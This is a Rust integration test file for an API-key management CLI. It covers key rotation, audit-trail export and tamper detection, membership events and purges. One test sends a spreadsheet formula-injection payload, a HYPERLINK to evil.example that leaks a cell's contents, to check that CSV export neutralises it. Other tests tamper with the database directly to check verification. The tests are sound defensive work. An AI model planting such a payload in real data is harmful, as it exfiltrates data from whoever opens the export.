//! Operators' work on keys, the trail, and old data.

use serde_json::Value;

use crate::cli::Cli;
use crate::server::{On, TestServer, TestStore, on_both_stores};

/// The id of a key that an operator has created.
fn created(cli: &Cli<'_>, options: &str) -> String {
    let created = cli.json(&format!(
        "keys create --workspace ws_1 -o json --name {options}"
    ));
    created["apiKeyId"].as_str().unwrap().to_owned()
}

fn names(listed: &Value) -> Vec<&str> {
    let rows = listed.as_array().unwrap();
    rows.iter()
        .map(|row| row["name"].as_str().unwrap())
        .collect()
}

on_both_stores! {
    async fn a_key_is_got_disabled_enabled_rotated_and_deleted(on: On) {
        let store = TestStore::create(on).await;
        let url = store.database.url().to_owned();
        let cli = Cli { url: &url };
        let id = created(&cli, "Key");
        let status = || cli.json(&format!("keys get --workspace ws_1 -o json {id}"))["status"].clone();
        assert_eq!(status(), "ACTIVE");
        cli.ok(&format!("keys disable --workspace ws_1 {id}"));
        cli.ok(&format!("keys disable --workspace ws_1 {id}"));
        assert_eq!(status(), "DISABLED");
        cli.ok(&format!("keys enable --workspace ws_1 {id}"));
        assert_eq!(status(), "ACTIVE");

        let secret = cli.ok(&format!("keys rotate --workspace ws_1 {id} --overlap 1h"));
        assert_eq!(secret.lines().count(), 1, "the secret alone");
        let key = cli.json(&format!("keys get --workspace ws_1 -o json {id}"));
        let secrets = key["secrets"].as_array().unwrap();
        assert_eq!(secrets.len(), 2, "{key}");
        assert!(secret.trim().ends_with(secrets[0]["secretHint"].as_str().unwrap().rsplit('…').next().unwrap()));
        assert!(secrets[0]["endsAt"].is_null() && secrets[1]["endsAt"].is_string(), "{key}");
        assert!(cli.ok(&format!("keys get --workspace ws_1 {id}")).contains("ENDS AT"));
        cli.ok(&format!("keys end-overlap --workspace ws_1 {id}"));
        let key = cli.json(&format!("keys get --workspace ws_1 -o json {id}"));
        assert_eq!(key["secrets"].as_array().unwrap().len(), 1);
        let rotated = cli.json(&format!("keys rotate --workspace ws_1 {id} --overlap 0s -o json"));
        assert!(rotated["secret"].as_str().unwrap().starts_with("sk_live_"));
        assert_eq!(rotated["secrets"].as_array().unwrap().len(), 1);

        cli.fails(&format!("keys delete --workspace ws_1 {id}"), 1, "--yes");
        cli.ok(&format!("keys delete --workspace ws_1 --yes {id}"));
        cli.fails(&format!("keys get --workspace ws_1 {id}"), 1, "keys list");
        for command in ["denials", "disable", "enable", "rotate", "delete --yes"] {
            cli.fails(&format!("keys {command} --workspace ws_1 {id}"), 1, "has no key");
            cli.fails(&format!("keys {command} --workspace ws_8 {id}"), 1, "workspaces add ws_8");
        }
        let actions: Vec<&str> =
            store.trail(keyward_domain::ApiKeyId::parse(&id).unwrap()).await.iter().map(|event| event.action.as_str()).collect();
        assert_eq!(
            actions,
            ["CREATED", "DISABLED", "ENABLED", "ROTATED", "OVERLAP_ENDED", "ROTATED", "DELETED"]
        );
    }

    async fn annotations_of_keys_are_given_shown_and_filtered_by_external_id(on: On) {
        let store = TestStore::create(on).await;
        let url = store.database.url().to_owned();
        let cli = Cli { url: &url };
        let id = created(
            &cli,
            "Key --external-id customer-4711 --metadata plan=gold --metadata query=a=b --description Report",
        );
        created(&cli, "Bare");
        let key = cli.json(&format!("keys get --workspace ws_1 -o json {id}"));
        assert_eq!(key["externalId"], "customer-4711");
        assert_eq!(key["metadata"], serde_json::json!({ "plan": "gold", "query": "a=b" }));
        assert_eq!(key["description"], "Report");
        let shown = cli.ok(&format!("keys get --workspace ws_1 {id}"));
        assert!(shown.contains("customer-4711") && shown.contains("metadata query"), "{shown}");
        let listed = cli.json("keys list --workspace ws_1 --external-id customer-4711 -o json");
        assert_eq!(names(&listed), ["Key"]);
        let listed = cli.json("keys list --workspace ws_1 -o json");
        assert!(listed[0].get("externalId").is_none() && listed[0].get("metadata").is_none());
        for (options, told) in [
            ("--external-id ä", "externalId"),
            ("--metadata plan=a --metadata plan=b", "metadata.plan"),
            ("--metadata a/b=c", "metadata.a/b"),
        ] {
            cli.fails(&format!("keys create --workspace ws_1 --name Key {options}"), 1, told);
        }
        cli.fails("keys create --workspace ws_1 --name Key --metadata plan", 2, "NAME=VALUE");
    }

    async fn a_key_of_another_workspace_is_none_of_this_one(on: On) {
        let store = TestStore::create(on).await;
        store.add_workspace("ws_2").await;
        let url = store.database.url().to_owned();
        let cli = Cli { url: &url };
        let id = created(&cli, "Key");
        for command in ["get", "denials", "disable", "enable", "rotate", "end-overlap", "delete --yes"] {
            cli.fails(&format!("keys {command} --workspace ws_2 {id}"), 1, "has no key");
        }
    }

    async fn all_keys_of_a_workspace_are_disabled_at_a_word(on: On) {
        let store = TestStore::create(on).await;
        store.add_workspace("ws_2").await;
        let url = store.database.url().to_owned();
        let cli = Cli { url: &url };
        for at in 0..120 {
            created(&cli, &format!("Key{at}"));
            if at > 3 {
                // The others need no command each: the server copies rows.
                break;
            }
        }
        let server = TestServer::start(&store.database);
        for _ in 0..110 {
            server.created();
        }
        cli.ok("keys create --workspace ws_2 --name Other");
        let dry = cli.ok("keys disable --workspace ws_1 --all --dry-run");
        assert_eq!(dry.lines().count(), 1 + 115, "{dry}");
        cli.fails("keys disable --workspace ws_1 --all", 1, "--yes");
        cli.fails("keys disable --workspace ws_1", 2, "KEY");
        let active = || cli.json("keys list --workspace ws_1 --status ACTIVE -o json");
        assert_eq!(names(&active()).len(), 115, "nothing was done");
        cli.ok("keys disable --workspace ws_1 --all --yes");
        assert_eq!(names(&active()).len(), 0);
        assert_eq!(names(&cli.json("keys list --workspace ws_1 --status DISABLED -o json")).len(), 115);
        assert_eq!(names(&cli.json("keys list --workspace ws_2 --status ACTIVE -o json")), ["Other"]);
        let again = cli.run("keys disable --workspace ws_1 --all --yes");
        assert!(String::from_utf8_lossy(&again.stderr).contains("disabled 0 keys"));
    }

    async fn keys_are_listed_by_filter_and_order(on: On) {
        let store = TestStore::create(on).await;
        let url = store.database.url().to_owned();
        let cli = Cli { url: &url };
        created(&cli, "beta");
        created(&cli, "alpha --mode TEST");
        let gamma = created(&cli, "gamma");
        cli.ok(&format!("keys disable --workspace ws_1 {gamma}"));
        let list = |options: &str| {
            let listed = cli.json(&format!("keys list --workspace ws_1 -o json {options}"));
            names(&listed).join(" ")
        };
        assert_eq!(list("--sort name"), "alpha beta gamma");
        assert_eq!(list("--sort createdAt,asc"), "beta alpha gamma");
        assert_eq!(list("--status DISABLED"), "gamma");
        assert_eq!(list("--mode TEST"), "alpha");
        assert_eq!(list("--search BET"), "beta");
        assert_eq!(list(&format!("--search {gamma}")), "gamma");
        cli.fails("keys list --workspace ws_1 --status DELETED", 2, "ACTIVE, DISABLED");
        cli.fails("keys list --workspace ws_1 --sort colour", 2, "createdAt");
        cli.fails("keys rotate --workspace ws_1 --overlap 8d sk_live_x", 2, "7d");
    }

    async fn keys_that_end_soon_are_told_with_their_workspace(on: On) {
        let store = TestStore::create(on).await;
        store.add_workspace("ws_2").await;
        let url = store.database.url().to_owned();
        let cli = Cli { url: &url };
        let soon = keyward_domain::Timestamp::from_unix_seconds(crate::tokens::now() + 86_400).unwrap();
        cli.ok(&format!("keys create --workspace ws_2 --name Soon --expires-at {soon}"));
        cli.ok("keys create --workspace ws_1 --name Later --expires-at 2099-01-31T12:00:00Z");
        cli.ok("keys create --workspace ws_1 --name Never");
        let within = |within: &str| cli.json(&format!("keys expiring --within {within} -o json"));
        assert_eq!(names(&within("14d")), ["Soon"]);
        assert_eq!(within("14d")[0]["workspaceId"], "ws_2");
        assert_eq!(within("14d")[0]["expiresAt"], soon.to_string());
        assert_eq!(names(&within("1h")).len(), 0);
        assert_eq!(names(&within("100y")), ["Soon", "Later"]);
        assert!(cli.ok("keys expiring").starts_with("WORKSPACE"));
    }

    async fn the_trail_is_verified_and_exported(on: On) {
        let store = TestStore::create(on).await;
        store.add_workspace("ws_2").await;
        let url = store.database.url().to_owned();
        let cli = Cli { url: &url };
        let id = created(&cli, "Key,with\"quotes");
        cli.ok(&format!("keys rotate --workspace ws_1 {id}"));
        cli.ok("keys create --workspace ws_2 --name Other");
        let verified = cli.run("audit verify");
        assert_eq!(verified.status.code(), Some(0));
        assert!(String::from_utf8_lossy(&verified.stderr).contains("3 events of 2 workspaces"));

        let exported = cli.ok("audit export --since 2026-01-01T00:00:00Z");
        let events: Vec<Value> = exported.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        let actions: Vec<&Value> = events.iter().map(|event| &event["action"]).collect();
        assert_eq!(actions, ["CREATED", "ROTATED", "CREATED"]);
        assert_eq!(events[1]["apiKeyId"], id.as_str());
        assert_eq!(events[1]["actorKind"], "OPERATOR");
        assert_eq!(events[0]["after"]["name"], "Key,with\"quotes");
        assert_eq!(events[1]["before"]["overlap"], Value::Null);
        assert_eq!(events[1]["after"].get("name"), None);
        assert_eq!(events[1]["after"]["overlap"]["secretHint"], events[0]["after"]["secretHint"]);
        assert_eq!(events[2]["workspaceId"], "ws_2");
        assert_eq!(cli.ok("audit export --since 2026-01-01T00:00:00Z --workspace ws_2").lines().count(), 1);
        assert_eq!(cli.ok("audit export --since 2999-01-01T00:00:00Z"), "");
        let csv = cli.ok("audit export --since 2026-01-01T00:00:00Z -o csv");
        assert!(csv.starts_with("workspaceId,position,apiKeyId,action,"), "{csv}");
        assert_eq!(csv.lines().count(), 4, "{csv}");
        cli.fails("audit export --since yesterday", 2, "RFC 3339");
        cli.fails("audit verify --workspace ws_8", 1, "workspaces add ws_8");

        store.database.tamper("DELETE FROM audit_events WHERE workspace_id = 'ws_1' AND position = 2").await;
        let verified = cli.run("audit verify");
        assert_eq!(verified.status.code(), Some(1));
        assert_eq!(String::from_utf8_lossy(&verified.stdout), "workspace ws_1: event 2 is missing\n");
        assert_eq!(cli.run("audit verify --workspace ws_2").status.code(), Some(0));
        store.database.tamper("DELETE FROM api_keys WHERE workspace_id = 'ws_2'").await;
        store.database.tamper("DELETE FROM workspaces WHERE id = 'ws_2'").await;
        let told = String::from_utf8_lossy(&cli.run("audit verify").stdout).into_owned();
        let gone = "workspace ws_2: the workspace is gone, and 1 events of it are left\n";
        assert!(told.contains(gone), "{told}");
    }

    async fn membership_changes_are_recorded_and_unrecorded_members_reported(on: On) {
        let store = TestStore::create(on).await;
        let cli = Cli { url: store.database.url() };
        let heads = tempfile::NamedTempFile::new().unwrap();
        std::fs::write(heads.path(), cli.ok("audit heads")).unwrap();
        cli.ok("workspaces add =ws");
        cli.ok("members add --workspace =ws --role VIEWER mallory");
        cli.ok("members set-role --workspace =ws --role OWNER mallory");
        cli.ok("members remove --workspace =ws mallory");
        cli.ok("workspaces remove =ws");
        cli.ok("scopes add invoice:read --description en=Invoices");
        cli.ok("scopes remove invoice:read");
        cli.ok("scopes set-resource-name invoice --name en=Invoices");
        let exported = cli.ok("audit export --deployment --since 2026-01-01T00:00:00Z");
        let events: Vec<Value> = exported.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        let actions: Vec<&str> = events[2..].iter().map(|event| event["action"].as_str().unwrap()).collect();
        assert_eq!(actions, [
            "WORKSPACE_ADDED", "MEMBER_ADDED", "MEMBER_CHANGED", "MEMBER_REMOVED", "WORKSPACE_REMOVED",
            "SCOPE_ADDED", "SCOPE_REMOVED", "RESOURCE_CHANGED",
        ]);
        assert_eq!(events[4]["userId"], "mallory");
        assert_eq!((&events[4]["before"], &events[4]["after"]), (&"VIEWER".into(), &"OWNER".into()));
        assert_eq!(events[4]["actorKind"], "OPERATOR");
        assert!(events[4]["requestId"].as_str().unwrap().starts_with("cli-"));
        assert_eq!(events[7]["after"]["en"], "Invoices");
        assert_eq!((&events[9]["resource"], &events[9]["before"]), (&"invoice".into(), &serde_json::json!({})));
        assert_eq!(events[9]["after"]["en"], "Invoices");
        assert_eq!(cli.ok("audit export --deployment --since 2999-01-01T00:00:00Z"), "");
        let csv = cli.ok("audit export --deployment --since 2026-01-01T00:00:00Z -o csv");
        assert!(csv.starts_with("position,action,workspaceId,userId,scope,"), "{csv}");
        assert!(csv.contains(",WORKSPACE_ADDED,'=ws,"), "{csv}");
        cli.fails("audit export --deployment --workspace ws_1 --since 2026-01-01T00:00:00Z", 2, "--workspace");

        let verify = format!("audit verify --heads {}", heads.path().to_str().unwrap());
        let verified = cli.run(&verify);
        assert_eq!(verified.status.code(), Some(0));
        assert!(String::from_utf8_lossy(&verified.stderr).contains("and 10 of the deployment are intact"));

        let mallory = "INSERT INTO members (workspace_id, user_id, role) VALUES ('ws_1', 'mallory', 'OWNER')";
        store.database.tamper(mallory).await;
        for verify in ["audit verify", "audit verify --workspace ws_1"] {
            let verified = cli.run(verify);
            let told = "deployment: mallory is OWNER of workspace ws_1, but according to the events no member\n";
            assert_eq!(String::from_utf8_lossy(&verified.stdout), told);
            assert_eq!(verified.status.code(), Some(1));
        }
        cli.ok("members set-role --workspace ws_1 --role VIEWER mallory");
        assert_eq!(cli.run("audit verify").status.code(), Some(0), "an operator has confirmed the role");

        // Members and their trail are reset to the start and rewritten.
        let start = if matches!(on, On::Sqlite) { "zeroblob(32)" } else { "decode(repeat('00', 32), 'hex')" };
        store.database.tamper(&format!(
            "DELETE FROM deployment_events; DELETE FROM members;
             UPDATE deployment_trail SET event_count = 0, event_hash = {start}"
        )).await;
        for user in ["user_a", "user_b"] {
            cli.ok(&format!("members add --workspace ws_1 --role OWNER {user}"));
        }
        assert_eq!(cli.run("audit verify").status.code(), Some(0), "the trail is consistent by itself");
        let verified = cli.run(&verify);
        assert_eq!(verified.status.code(), Some(1));
        let told = "deployment: event 2 differs from the heads\n";
        assert_eq!(String::from_utf8_lossy(&verified.stdout), told);
    }

    async fn a_trail_that_was_written_anew_is_not_the_one_of_the_heads(on: On) {
        let store = TestStore::create(on).await;
        let cli = Cli { url: store.database.url() };
        created(&cli, "Key");
        let folder = tempfile::tempdir().unwrap();
        let file = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
        let (heads, key, other_key, short) = (file("heads"), file("key"), file("other"), file("short"));
        std::fs::write(&key, "0123456789abcdef0123456789abcdef\n").unwrap();
        std::fs::write(&other_key, "another-key-of-32-bytes-or-more!").unwrap();
        std::fs::write(&short, "0123456789abcdef\n").unwrap();
        cli.fails(&format!("audit heads --key-file {short}"), 1, "32 bytes");
        let printed = cli.ok(&format!("audit heads --key-file {key}"));
        std::fs::write(&heads, &printed).unwrap();
        // The trail may continue.
        created(&cli, "Another");
        let verify = format!("audit verify --heads {heads}");
        assert_eq!(cli.run(&verify).status.code(), Some(0));
        assert_eq!(cli.run(&format!("{verify} --key-file {key}")).status.code(), Some(0));
        cli.fails(&format!("{verify} --key-file {other_key}"), 1, "another key");
        std::fs::write(&heads, printed.replace("\"eventCount\": 1", "\"eventCount\": 0")).unwrap();
        cli.fails(&format!("{verify} --key-file {key}"), 1, "was altered");
        let mut unsigned: Value = serde_json::from_str(&printed).unwrap();
        unsigned.as_object_mut().unwrap().remove("hmacSha256");
        std::fs::write(&heads, unsigned.to_string()).unwrap();
        cli.fails(&format!("{verify} --key-file {key}"), 1, "is not signed");
        cli.fails(&format!("audit verify --heads {key}"), 1, "audit heads");
        std::fs::write(&heads, &printed).unwrap();

        // Everything is reset to before the first event and rewritten.
        for table in ["audit_events", "secret_uses", "api_keys"] {
            store.database.tamper(&format!("DELETE FROM {table}")).await;
        }
        let start = if matches!(on, On::Sqlite) { "zeroblob(32)" } else { "decode(repeat('00', 32), 'hex')" };
        store.database.tamper(&format!(
            "UPDATE workspaces SET key_count = 0, event_count = 0, event_hash = {start}"
        )).await;
        created(&cli, "Forged");
        assert_eq!(cli.run("audit verify").status.code(), Some(0), "the trail is consistent by itself");
        let verified = cli.run(&verify);
        assert_eq!(verified.status.code(), Some(1));
        let told = "workspace ws_1: event 1 differs from the heads\n";
        assert_eq!(String::from_utf8_lossy(&verified.stdout), told);
    }

    /// The trail contains a client's own request id.
    async fn no_text_of_a_caller_is_a_formula_in_a_spreadsheet(on: On) {
        const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&C2,\"ok\")";
        let store = TestStore::create(on).await;
        let server = TestServer::start(&store.database);
        server.create().also("X-Request-Id", FORMULA).send().assert("create", 201, "2000");
        let cli = Cli { url: store.database.url() };
        let export = |format: &str| {
            cli.ok(&format!("audit export --since 2026-01-01T00:00:00Z -o {format}"))
        };
        let csv = export("csv");
        let quoted = FORMULA.replace('"', "\"\"");
        assert!(csv.contains(&format!(",\"'{quoted}\",")), "{csv}");
        let event: Value = serde_json::from_str(&export("jsonl")).unwrap();
        assert_eq!(event["requestId"], FORMULA);
    }

    /// More than one page of each.
    async fn long_lists_are_written_page_by_page(on: On) {
        let store = TestStore::create(on).await;
        let now = if matches!(on, On::Sqlite) { "0" } else { "now()" };
        store.database.tamper(&format!(
            "WITH RECURSIVE numbers (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM numbers WHERE n < 2500)
             INSERT INTO workspaces (id, created_at) SELECT 'other_' || n, {now} FROM numbers;
             WITH RECURSIVE numbers (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM numbers WHERE n < 2500)
             INSERT INTO members (workspace_id, user_id, role) SELECT 'ws_1', 'other_' || n, 'VIEWER' FROM numbers"
        )).await;
        let cli = Cli { url: store.database.url() };
        for (line, member) in [("workspaces list", "id"), ("members list --workspace ws_1", "userId")] {
            let listed = cli.json(&format!("{line} -o json"));
            let ids = listed.as_array().unwrap().iter().map(|row| row[member].as_str().unwrap());
            let ids: Vec<&str> = ids.collect();
            assert_eq!(ids.len(), 2501, "{line}");
            assert!(ids.is_sorted_by(|a, b| a < b), "{line}");
            let table = cli.ok(line);
            assert_eq!(table.lines().count(), 2502, "a header and as many lines: {line}");
        }
        let verified = cli.run("audit verify");
        assert_eq!(verified.status.code(), Some(1), "no event records those members");
        assert_eq!(String::from_utf8_lossy(&verified.stdout).lines().count(), 2500);
        store.database.tamper("DELETE FROM members WHERE role = 'VIEWER'").await;
        let verified = cli.run("audit verify");
        assert_eq!(verified.status.code(), Some(0));
        let told = String::from_utf8_lossy(&verified.stderr);
        assert!(told.contains("0 events of 2501 workspaces"), "{told}");
    }

    async fn who_has_read_enough_may_close_the_pipe(on: On) {
        let store = TestStore::create(on).await;
        let url = store.database.url().to_owned();
        created(&Cli { url: &url }, "Key");
        for line in ["audit export --since 2026-01-01T00:00:00Z", "keys list --workspace ws_1"] {
            let mut process = crate::server::keyward()
                .args(line.split(' '))
                .env("DATABASE_URL", &url)
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap();
            drop(process.stdout.take());
            let output = process.wait_with_output().unwrap();
            let stderr = String::from_utf8_lossy(&output.stderr);
            assert_eq!((output.status.code(), stderr.as_ref()), (Some(0), ""), "{line}");
        }
    }

    async fn a_purge_removes_what_was_deleted_long_enough_ago(on: On) {
        let store = TestStore::create(on).await;
        let url = store.database.url().to_owned();
        let cli = Cli { url: &url };
        let id = created(&cli, "Key");
        created(&cli, "Kept");
        cli.ok(&format!("keys delete --workspace ws_1 --yes {id}"));
        let purged = |line: &str| String::from_utf8(cli.run(line).stderr).unwrap();
        assert!(purged("purge --deleted-for 1d --dry-run").contains("would remove 0 deleted keys"));
        assert!(purged("purge --deleted-for 0s --dry-run").contains("would remove 1 deleted keys"));
        assert!(purged("purge --deleted-for 0s").contains("removed 1 deleted keys"));
        assert!(purged("purge --deleted-for 0s").contains("removed 0 deleted keys"));
        assert_eq!(names(&cli.json("keys list --workspace ws_1 -o json")), ["Kept"]);
        let trail = cli.ok("audit export --since 2026-01-01T00:00:00Z");
        assert_eq!(trail.lines().count(), 3, "the trail stays");
    }
}
